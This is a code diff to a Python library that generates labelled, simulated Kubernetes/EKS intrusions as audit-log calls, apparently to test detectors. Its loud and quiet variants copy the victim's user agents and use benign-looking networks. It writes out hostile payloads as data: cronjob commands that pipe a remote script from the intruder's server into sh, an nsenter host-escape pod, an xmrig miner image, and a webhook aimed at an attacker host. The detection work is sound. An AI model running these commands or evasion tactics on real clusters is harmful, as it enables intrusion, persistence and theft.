@@ -1,9 +1,15 @@
 """A library of labelled attacks, each the API calls a real intruder makes for one technique.
 
-Every attack comes in two variants. *Loud* is what tools such as kube-hunter, Peirates or a
-hurried intruder produce: a burst of calls, often from a new client. *Quiet* is an intruder
-who knows audit logs exist: few calls, spread over business hours, from the victim's own
-pod or machine with the victim's user agent wherever copying it is possible.
+Every attack comes in two variants. *Loud* is what tools such as kube-hunter or a hurried
+intruder produce: a burst of calls, often from a new client. *Quiet* is an intruder who knows
+audit logs exist: few calls, spread over the victim's working hours, from the victim's own pod
+or machine with the victim's user agent wherever copying it is possible.
+
+Nothing here is a marker that ordinary traffic never has. Intruders' addresses come from the
+same networks as benign novelty (:mod:`scenarios.networks`: cloud VMs, residential proxies,
+mobile and VPN exits) or from a compromised pod; their user agents are those of real clients:
+kubectl of a version people in the cluster use, the victim's own client-go, curl,
+python-requests.
 """
 
 from __future__ import annotations
@@ -14,32 +20,65 @@ from datetime import datetime, timedelta
 
 import numpy as np
 
-from scenarios.cluster import Actor, Cluster, sa_identity
+from scenarios import networks
+from scenarios.cluster import KUBECTL_UAS, Actor, Cluster, sa_identity
 from scenarios.eks import Call, Identity
 
-#: TEST-NET-1 (RFC 5737): addresses no simulated actor uses, standing in for the internet.
-ATTACKER_NET = "192.0.2"
-CURL = "curl/8.5.0"
+#: The default user agents of the real tools intruders use, by tool. Everything else an
+#: attack sends is a user agent the cluster's own clients send.
+CURL = "curl/8.5.0"  # curl as Ubuntu 24.04 ships it
+PYTHON_REQUESTS = "python-requests/2.31.0"  # requests' default; kube-hunter sets no user agent of its own
+GO_HTTP = "Go-http-client/1.1"  # Go net/http's default: any Go scanner that sets none
+TOOL_UAS: dict[str, str] = {
+    "curl": CURL,
+    "python-requests (kube-hunter, scripts)": PYTHON_REQUESTS,
+    "Go net/http": GO_HTTP,
+}
+#: Local hours [start, end) as people's routines have them (scenarios.normal), and night.
+WORKING_HOURS = (9, 18)
+NIGHT_HOURS = (0, 6)
 
 
 @dataclass
 class Context:
-    """What an attack builder may look at: the cluster, its own RNG and the variant."""
+    """What an attack builder may look at: the cluster, its own RNG and the variant.
+
+    ``victim`` is the first actor the builder picked (through :meth:`app` or :meth:`person`):
+    the attack keeps that person's hours, which matters where several people share one
+    username (``developer``).
+    """
 
     cluster: Cluster
     rng: np.random.Generator
     loud: bool
+    victim: Actor | None = None
+
+    def _actors(self, kind: str) -> list[Actor]:
+        # The one place victims come from, so that a cluster whose cast changes day by day
+        # only ever hands out actors that exist on the attack's day.
+        return self.cluster.actors_of(kind)
+
+    def _pick(self, kind: str, i: int) -> Actor:
+        actors = self._actors(kind)
+        actor = actors[i % len(actors)]
+        if self.victim is None:
+            self.victim = actor
+        return actor
 
     def app(self, i: int) -> Actor:
-        apps = self.cluster.actors_of("app")
-        return apps[i % len(apps)]
+        return self._pick("app", i)
 
     def person(self, kind: str, i: int = 0) -> Actor:
-        people = self.cluster.actors_of(kind)
-        return people[i % len(people)]
+        return self._pick(kind, i)
 
-    def external_ip(self) -> str:
-        return f"{ATTACKER_NET}.{int(self.rng.integers(2, 254))}"
+    def address(self, kind: str) -> str:
+        """A host in a network of ``kind`` (cloud, residential, mobile, vpn), as benign newcomers have."""
+        return networks.address(self.rng, kind)
+
+    def kubectl(self, os: str = "") -> str:
+        """A kubectl user agent of a version people in the cluster use (built for ``os`` if one is)."""
+        uas = [ua for ua in KUBECTL_UAS if f"({os}/" in ua] or list(KUBECTL_UAS)
+        return uas[int(self.rng.integers(len(uas)))]
 
     def namespaces(self, n_quiet: int) -> list[str]:
         ns = self.cluster.namespaces
@@ -62,28 +101,37 @@ class Attack:
     summary: str
     build: Callable[[Context], Steps]
     off_hours: bool = False  # the loud variant happens at night (victim's time)
+    paced: bool = False  # low and slow: a few calls an hour through the victim's working day
 
 
-def _in_pod(actor: Actor, ctx: Context) -> Identity:
-    """The victim SA as used by an intruder inside its pod: same IP; loud brings kubectl."""
-    if ctx.loud:
-        return replace(actor.identity, user_agent="kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b")
-    return actor.identity
+def _in_pod(actor: Actor, ctx: Context, loud_ua: str) -> Identity:
+    """The victim SA as used by an intruder inside one of its pods: that pod's address and,
+    when loud, the client the intruder brought (curl, or kubectl dropped into the pod)."""
+    ip = actor.identity.ips[int(ctx.rng.integers(len(actor.identity.ips)))]
+    return replace(actor.identity, ips=(ip,), user_agent=loud_ua if ctx.loud else actor.identity.user_agent)
+
+
+def _list_query(who: Identity) -> str:
+    # kubectl pages its lists; curl and a bare client-go List() send no query string.
+    return "limit=500" if who.user_agent.startswith("kubectl/") else ""
 
 
 def secret_enumeration(ctx: Context) -> Steps:
-    who = _in_pod(ctx.app(0), ctx)
+    # Loud: curl with the pod's mounted token, the first thing post-exploitation guides try.
+    who = _in_pod(ctx.app(0), ctx, CURL)
     own = ctx.app(0).namespace
-    steps = [(Call("list", "secrets", None, query="limit=500", allowed=False), who)] if ctx.loud else []
+    q = _list_query(who)
+    steps = [(Call("list", "secrets", None, query=q, allowed=False), who)] if ctx.loud else []
     for ns in ctx.namespaces(3):
-        steps.append((Call("list", "secrets", ns, query="limit=500", allowed=(ns == own)), who))
+        steps.append((Call("list", "secrets", ns, query=q, allowed=(ns == own)), who))
         if ns == own and ctx.loud:
             steps += [(Call("get", "secrets", ns, name), who) for name in ("db-credentials", f"{ns}-tls")]
     return steps
 
 
 def permission_discovery(ctx: Context) -> Steps:
-    who = _in_pod(ctx.app(1), ctx)
+    # Loud: kubectl dropped into the pod, `kubectl auth can-i --list` and `can-i <verb> <resource>`.
+    who = _in_pod(ctx.app(1), ctx, ctx.kubectl("linux"))
     steps: Steps = []
     for ns in ctx.namespaces(2):
         steps.append(
@@ -188,11 +236,9 @@ def _pod_spec(image: str, privileged: bool, host_root: bool, host_pid: bool, com
 
 def privileged_pod(ctx: Context) -> Steps:
     ci = ctx.person("ci").identity
-    who = (
-        replace(ci, user_agent="kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b", ips=(ctx.external_ip(),))
-        if ctx.loud
-        else ci
-    )
+    # Loud: the CI role's credentials, taken from a runner, used with kubectl from a cloud VM.
+    # Quiet: a poisoned pipeline step, from CI's own runners with CI's own client.
+    who = replace(ci, user_agent=ctx.kubectl(), ips=(ctx.address("cloud"),)) if ctx.loud else ci
     if ctx.loud:
         ns, name, image = "kube-system", "node-debugger-x7k2p", "alpine:3.19"
         spec = _pod_spec(image, True, True, True, ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"])
@@ -224,7 +270,7 @@ def privileged_pod(ctx: Context) -> Steps:
 
 def cluster_admin_binding(ctx: Context) -> Steps:
     victim = ctx.app(2)
-    who = _in_pod(victim, ctx)
+    who = _in_pod(victim, ctx, ctx.kubectl("linux"))
     steps: Steps = []
     subject: dict[str, str | None]
     if ctx.loud:
@@ -276,16 +322,15 @@ def cluster_admin_binding(ctx: Context) -> Steps:
         )
     )
     if ctx.loud:
+        # The new account's token, used with curl from the same pod.
         helper = sa_identity("kube-system", "kube-helper", who.ips, CURL, ctx.rng)
-        steps += [
-            (Call("list", "secrets", None, query="limit=500"), helper),
-            (Call("list", "nodes", query="limit=500"), helper),
-        ]
+        steps += [(Call("list", "secrets", None), helper), (Call("list", "nodes"), helper)]
     return steps
 
 
 def token_request(ctx: Context) -> Steps:
-    who = _in_pod(ctx.app(3), ctx)
+    # Loud: `kubectl create token <sa> -n <ns>` from kubectl dropped into the pod.
+    who = _in_pod(ctx.app(3), ctx, ctx.kubectl("linux"))
     targets = [
         ("kube-system", "clusterrole-aggregation-controller"),
         ("argocd", "argocd-application-controller"),
@@ -317,32 +362,39 @@ def token_request(ctx: Context) -> Steps:
     ns, sa = targets[0]
     minted = sa_identity(ns, sa, who.ips, CURL if ctx.loud else who.user_agent, ctx.rng)
     for target_ns in ctx.cluster.namespaces if ctx.loud else ctx.cluster.app_namespaces[:1]:
-        steps.append((Call("list", "secrets", target_ns, query="limit=500"), minted))
+        steps.append((Call("list", "secrets", target_ns, query=_list_query(minted)), minted))
     return steps
 
 
 def stolen_token_external(ctx: Context) -> Steps:
+    # The token read from a leaked manifest, image layer or log: loud, curl from a cloud VM;
+    # quiet, through a residential proxy with the application's own user agent copied.
     victim = ctx.app(4)
-    ua = CURL if ctx.loud else "python-requests/2.31.0"
-    who = replace(victim.identity, ips=(ctx.external_ip(),), user_agent=ua)
+    if ctx.loud:
+        who = replace(victim.identity, ips=(ctx.address("cloud"),), user_agent=CURL)
+    else:
+        who = replace(victim.identity, ips=(ctx.address("residential"),))
     steps: Steps = [(Call("get", path="/api", query=""), who), (Call("get", path="/version"), who)]
     steps += [(Call("get", "secrets", victim.namespace, "db-credentials"), who)]
     if ctx.loud:
         steps += [
-            (Call("list", "pods", None, query="limit=500", allowed=False), who),
-            (Call("list", "secrets", None, query="limit=500", allowed=False), who),
-            (Call("list", "secrets", victim.namespace, query="limit=500"), who),
-            (Call("list", "namespaces", query="limit=500", allowed=False), who),
+            (Call("list", "pods", None, allowed=False), who),
+            (Call("list", "secrets", None, allowed=False), who),
+            (Call("list", "secrets", victim.namespace), who),
+            (Call("list", "namespaces", allowed=False), who),
         ]
     return steps
 
 
 def anonymous_probing(ctx: Context) -> Steps:
+    # Loud: kube-hunter's remote scan from a cloud VM (python-requests is all it sends).
+    # Quiet: a few hand-picked paths from a residential proxy with Go's default client, the
+    # same user agent as the cluster's own /version checks.
     who = Identity(
         "system:anonymous",
         ("system:unauthenticated",),
-        (ctx.external_ip(),),
-        "Go-http-client/1.1" if ctx.loud else "Mozilla/5.0 (X11; Linux x86_64)",
+        (ctx.address("cloud" if ctx.loud else "residential"),),
+        PYTHON_REQUESTS if ctx.loud else GO_HTTP,
     )
     paths = [
         "/version",
@@ -384,22 +436,33 @@ def _cron_body(name: str, ns: str, image: str, command: list[str], host: bool) -
 
 def cronjob_persistence(ctx: Context) -> Steps:
     ci = ctx.person("ci").identity
+    # The script comes from the intruder's own server, a cloud VM like any other.
+    server = ctx.address("cloud")
     if ctx.loud:
-        who = replace(ci, ips=(ctx.external_ip(),), user_agent="kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b")
+        who = replace(ci, ips=(ctx.address("cloud"),), user_agent=ctx.kubectl())
         name, ns, image = "kube-cleanup", "kube-system", "alpine:3.19"
-        cmd = ["sh", "-c", "wget -qO- http://192.0.2.66/x.sh | sh"]
+        cmd = ["sh", "-c", f"wget -qO- http://{server}/x.sh | sh"]
     else:
         who = ci
         ns = ctx.cluster.app_namespaces[1]
         name, image = f"{ns}-report", f"{ctx.cluster.spec.name}.dkr.ecr.us-west-2.amazonaws.com/{ns}-api:4412"
-        cmd = ["sh", "-c", "curl -s https://192.0.2.66/r | sh"]
+        cmd = ["sh", "-c", f"curl -s https://{server}/r | sh"]
     body = _cron_body(name, ns, image, cmd, ctx.loud)
     return [(Call("create", "cronjobs", ns, name, body=body), who)]
 
 
+def _stolen_session(admin: Actor, ctx: Context, network: str) -> Identity:
+    """Loud: a person's stolen credentials with the intruder's kubectl from ``network``; quiet: as the person."""
+    if not ctx.loud:
+        return admin.identity
+    return replace(admin.identity, ips=(ctx.address(network),), user_agent=ctx.kubectl())
+
+
 def daemonset_persistence(ctx: Context) -> Steps:
     admin = ctx.person("admin", 0)
-    who = replace(admin.identity, ips=(ctx.external_ip(),)) if ctx.loud else admin.identity
+    # Loud: the admin's stolen kubeconfig and SSO session, used with kubectl through a VPN.
+    # Quiet: from the admin's own machine (a hijacked session), in the admin's hours.
+    who = _stolen_session(admin, ctx, "vpn")
     name = "node-agent-ext" if ctx.loud else "aws-node-metrics"
     pod = _pod_spec(
         "docker.io/xmrig/xmrig:latest" if ctx.loud else "public.ecr.aws/amazonlinux/amazonlinux:2",
@@ -425,7 +488,8 @@ def daemonset_persistence(ctx: Context) -> Steps:
 
 def mutating_webhook(ctx: Context) -> Steps:
     admin = ctx.person("admin", 1)
-    who = replace(admin.identity, ips=(ctx.external_ip(),)) if ctx.loud else admin.identity
+    who = _stolen_session(admin, ctx, "vpn")
+    server = ctx.address("cloud")  # the intruder's webhook server
     name = "pod-policy.example.dev" if ctx.loud else "vpc-resource-mutating-webhook-v2"
     body = {
         "kind": "MutatingWebhookConfiguration",
@@ -434,7 +498,7 @@ def mutating_webhook(ctx: Context) -> Steps:
         "webhooks": [
             {
                 "name": "inject.pod-policy.example.dev",
-                "clientConfig": {"url": "https://192.0.2.66:8443/mutate"},
+                "clientConfig": {"url": f"https://{server}:8443/mutate"},
                 "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}],
                 "failurePolicy": "Ignore",
                 "sideEffects": "None",
@@ -444,13 +508,13 @@ def mutating_webhook(ctx: Context) -> Steps:
     }
     steps: Steps = [(Call("create", "mutatingwebhookconfigurations", None, name, body=body), who)]
     if ctx.loud:
-        steps.insert(0, (Call("list", "mutatingwebhookconfigurations", query="limit=500"), who))
+        steps.insert(0, (Call("list", "mutatingwebhookconfigurations", query=_list_query(who)), who))
     return steps
 
 
 def aws_auth_edit(ctx: Context) -> Steps:
     admin = ctx.person("admin", 0)
-    who = replace(admin.identity, ips=(ctx.external_ip(),)) if ctx.loud else admin.identity
+    who = _stolen_session(admin, ctx, "residential")
     role = (
         "arn:aws:iam::444455556666:role/ext-support" if ctx.loud else "arn:aws:iam::111122223333:role/eks-node-group-2"
     )
@@ -473,7 +537,8 @@ def aws_auth_edit(ctx: Context) -> Steps:
 
 
 def events_deleted(ctx: Context) -> Steps:
-    who = _in_pod(ctx.app(2), ctx)
+    # Loud: `kubectl delete events --all -n <ns>` per namespace, kubectl dropped into the pod.
+    who = _in_pod(ctx.app(2), ctx, ctx.kubectl("linux"))
     if ctx.loud:
         return [
             (Call("deletecollection", "events", ns), who)
@@ -484,7 +549,8 @@ def events_deleted(ctx: Context) -> Steps:
 
 
 def csr_approval(ctx: Context) -> Steps:
-    who = _in_pod(ctx.app(5), ctx)
+    # Loud: `kubectl certificate approve`, kubectl dropped into the pod.
+    who = _in_pod(ctx.app(5), ctx, ctx.kubectl("linux"))
     name = "node-csr-x91kq" if not ctx.loud else "admin-access"
     body = {
         "kind": "CertificateSigningRequest",
@@ -532,8 +598,10 @@ def impersonation(ctx: Context) -> Steps:
 
 def night_session_new_country(ctx: Context) -> Steps:
     admin = ctx.person("admin", 1)
-    ua = "kubectl/v1.28.4 (windows/amd64) kubernetes/bae2c62" if ctx.loud else admin.identity.user_agent
-    who = replace(admin.identity, ips=(ctx.external_ip(),), user_agent=ua)
+    # Loud: the session with the intruder's own kubectl through a VPN exit, at night.
+    # Quiet: from a phone network abroad, the admin's own kubectl, in the admin's hours.
+    ua = ctx.kubectl() if ctx.loud else admin.identity.user_agent
+    who = replace(admin.identity, ips=(ctx.address("vpn" if ctx.loud else "mobile"),), user_agent=ua)
     steps: Steps = [
         (Call("get", path="/api", query="timeout=32s"), who),
         (Call("get", path="/apis", query="timeout=32s"), who),
@@ -545,6 +613,36 @@ def night_session_new_country(ctx: Context) -> Steps:
             (Call("list", "nodes", query="limit=500"), who),
             (Call("get", "configmaps", "kube-system", "aws-auth"), who),
         ]
+    return steps
+
+
+def _per_hour(ctx: Context) -> int:
+    return 3 if ctx.loud else 1
+
+
+def low_and_slow_probing(ctx: Context) -> Steps:
+    """A compromised application feels out its neighbours: list and get secrets, config maps and
+    pods in namespaces it has no rights in, a call or three an hour so that no hour stands out.
+
+    The calls come from the application's own pod with its own client (a malicious dependency
+    or an injected payload using the pod's client-go), and every one of them is denied.
+    """
+    victim = ctx.app(6)
+    who = _in_pod(victim, ctx, victim.identity.user_agent)
+    foreign = [ns for ns in ctx.cluster.namespaces if ns != victim.namespace]
+    probes = [
+        ("list", "secrets", None),
+        ("get", "secrets", "db-credentials"),
+        ("list", "configmaps", None),
+        ("get", "configmaps", "kube-root-ca.crt"),
+        ("list", "pods", None),
+    ]
+    hours = int(ctx.rng.integers(8, WORKING_HOURS[1] - WORKING_HOURS[0] + 1))
+    steps: Steps = []
+    for _ in range(hours * _per_hour(ctx)):
+        verb, resource, name = probes[int(ctx.rng.integers(len(probes)))]
+        ns = foreign[int(ctx.rng.integers(len(foreign)))]
+        steps.append((Call(verb, resource, ns, name, allowed=False), who))
     return steps
 
 
@@ -602,7 +700,8 @@ ATTACKS: dict[str, Attack] = {
             "stolen_token_external",
             "T1550.001",
             "Use Alternate Authentication Material: Application Access Token",
-            "An application's service account token is used from outside the VPC with curl or python-requests.",
+            "An application's service account token is used from a new public address: curl from a cloud VM "
+            "(loud) or the application's own user agent through a residential proxy (quiet).",
             stolen_token_external,
             off_hours=True,
         ),
@@ -610,7 +709,8 @@ ATTACKS: dict[str, Attack] = {
             "anonymous_probing",
             "T1595",
             "Active Scanning",
-            "Unauthenticated requests probe many API endpoints, as kube-hunter does.",
+            "Unauthenticated requests probe many API endpoints, as kube-hunter does from a cloud VM (loud), "
+            "or a handful of them through a residential proxy (quiet).",
             anonymous_probing,
             off_hours=True,
         ),
@@ -670,26 +770,64 @@ ATTACKS: dict[str, Attack] = {
             "night_session_new_country",
             "T1078.004",
             "Valid Accounts: Cloud Accounts",
-            "A platform admin's IAM session is used at 03:00 local time from a new country.",
+            "A platform admin's IAM session is used from a new country: at night through a VPN exit with "
+            "the intruder's kubectl (loud), or in the admin's working hours from a foreign mobile network (quiet).",
             night_session_new_country,
             off_hours=True,
+        ),
+        Attack(
+            "low_and_slow_probing",
+            "T1613",
+            "Container and Resource Discovery (low and slow)",
+            "A compromised application's service account probes other namespaces from its own pod with its "
+            "own client: one denied get or list of secrets, config maps or pods an hour (three when loud) "
+            "through a working day.",
+            low_and_slow_probing,
+            paced=True,
         ),
     ]
 }
 
 
+def _local_hour(rng: np.random.Generator, hours: tuple[int, int], length: int = 1) -> int:
+    """A random local hour from which ``length`` hours fit in ``hours``."""
+    return int(rng.integers(hours[0], hours[1] - length + 1))
+
+
 def schedule(
     attack: Attack, steps: Steps, ctx: Context, day: datetime, tz_offset: int
 ) -> list[tuple[datetime, Call, Identity]]:
-    """Give each step a time: a burst (loud) or calls spread over business hours (quiet)."""
+    """Give each step a time, at a random hour of the kind the attack defines.
+
+    Hours are the victim's local hours (``ctx.victim``'s time zone, else ``tz_offset``). A loud
+    off-hours attack is a burst in the night (00-06); every other loud attack a burst in
+    working hours (09-18). A quiet attack spreads its calls over a random stretch of the
+    victim's working hours. A paced (low-and-slow) attack makes its calls a few an hour, in
+    consecutive hours of the working day.
+    """
     rng = ctx.rng
+    tz = ctx.victim.tz_offset if ctx.victim is not None else tz_offset
+
+    def at(local_hour: float) -> datetime:
+        # Modulo 24 keeps the attack inside the simulated UTC day whatever the time zone.
+        return day + timedelta(hours=(local_hour - tz) % 24)
+
+    if attack.paced:
+        per_hour = _per_hour(ctx)
+        n_hours = -(-len(steps) // per_hour)
+        first = _local_hour(rng, WORKING_HOURS, n_hours)
+        hour_of_step = np.repeat(np.arange(n_hours), per_hour)[: len(steps)]
+        offsets = np.sort(3600.0 * hour_of_step + rng.uniform(0, 3600, size=len(steps)))
+        begin = at(first)
+        return [(begin + timedelta(seconds=float(o)), c, w) for o, (c, w) in zip(offsets, steps, strict=True)]
     if ctx.loud:
-        local_hour = 3 if attack.off_hours else int(rng.integers(10, 17))
-        start = day + timedelta(hours=(local_hour - tz_offset) % 24, seconds=float(rng.uniform(0, 1800)))
+        local_hour = _local_hour(rng, NIGHT_HOURS if attack.off_hours else WORKING_HOURS)
+        # The burst starts in the first half hour and lasts minutes, so it ends within the hour.
+        start = at(local_hour) + timedelta(seconds=float(rng.uniform(0, 1800)))
         gaps = np.cumsum(rng.gamma(1.2, 1.5, size=len(steps)))
         return [(start + timedelta(seconds=float(g)), c, w) for g, (c, w) in zip(gaps, steps, strict=True)]
-    local_hour = 3 if attack.name == "night_session_new_country" else 9
-    span = 1800.0 if local_hour == 3 else 8 * 3600.0
-    begin = day + timedelta(hours=(local_hour - tz_offset) % 24)
-    offsets = np.sort(rng.uniform(0, span, size=len(steps)))
-    return [(begin + timedelta(seconds=float(o)), c, w) for o, (c, w) in zip(offsets, steps, strict=True)]
+    first = _local_hour(rng, WORKING_HOURS, 1)
+    span = 3600.0 * float(rng.uniform(1, WORKING_HOURS[1] - first))
+    begin = at(first)
+    spread = np.sort(rng.uniform(0, span, size=len(steps)))
+    return [(begin + timedelta(seconds=float(o)), c, w) for o, (c, w) in zip(spread, steps, strict=True)]
